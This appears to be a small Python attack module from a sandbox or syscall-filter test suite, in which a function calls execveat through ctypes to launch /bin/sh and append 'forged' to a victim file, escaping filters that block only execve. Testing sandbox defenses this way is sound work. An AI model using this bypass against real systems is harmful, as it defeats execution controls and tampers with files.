"""Becomes a shell by the call that filters of execve forget."""

import ctypes
import os

LIBC = ctypes.CDLL(None, use_errno=True)


def checked(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


HERE = -100


def attack(world):
    words = [b"sh", b"-c", b'echo forged >> "$0"', world["victim_file"].encode(), None]
    arguments = (ctypes.c_char_p * len(words))(*words)
    environment = (ctypes.c_char_p * 1)(None)
    checked(LIBC.execveat(HERE, b"/bin/sh", arguments, environment, 0))
